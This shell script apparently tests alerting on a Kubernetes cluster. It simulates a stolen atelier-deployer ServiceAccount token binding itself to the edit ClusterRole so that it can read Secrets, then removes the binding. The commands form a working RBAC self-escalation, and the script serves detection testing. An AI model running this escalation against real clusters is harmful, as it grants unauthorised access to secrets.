#!/bin/sh
# RBAC self-escalation with a stolen deployer token. The atelier-deployer
# ServiceAccount (deploy/atelier/k8s/rbac.yaml) has a CI deployer's rights: it
# manages Deployments, Services, ConfigMaps and RoleBindings in its namespace and
# may bind the edit ClusterRole there, but may not read Secrets. Holding only its
# token (a kubeconfig of its own, as a thief would), the attack lists the
# namespace's Secrets (denied, 403), binds the deployer itself to edit, and lists
# them again (allowed). Then, as you, it removes the binding so that it can run
# again. The API servers' audit logs record each request.
# Run from a workstation with kubectl access to the test cluster.
# Usage: sh attack.sh [namespace]
set -u
ns=${1:-peregrine-atelier}
sa=atelier-deployer
token=$(kubectl -n "$ns" create token "$sa" --duration=10m) || exit 1
server=$(kubectl config view --minify -o jsonpath='{.clusters[0].cluster.server}') || exit 1
work=$(mktemp -d) || exit 1
trap 'rm -rf "$work"' EXIT
kubectl config view --minify --raw -o jsonpath='{.clusters[0].cluster.certificate-authority-data}' | base64 -d >"$work/ca.crt"
export KUBECONFIG="$work/config"
kubectl config set-cluster atelier --server="$server" --certificate-authority="$work/ca.crt" --embed-certs=true >/dev/null
kubectl config set-credentials "$sa" --token="$token" >/dev/null
kubectl config set-context atelier --cluster=atelier --user="$sa" --namespace="$ns" >/dev/null
kubectl config use-context atelier >/dev/null

kubectl auth can-i --list >/dev/null
if kubectl get secrets >/dev/null 2>&1; then
  echo "rbac-self-escalation: $sa may already list secrets in $ns (remove its extra bindings first)" >&2
  exit 1
fi
kubectl create rolebinding "$sa-edit" --clusterrole=edit --serviceaccount="$ns:$sa" || exit 1
kubectl get secrets

unset KUBECONFIG
kubectl -n "$ns" delete rolebinding "$sa-edit"
echo "rbac-self-escalation: done (expect one 'RBAC self-escalation')"
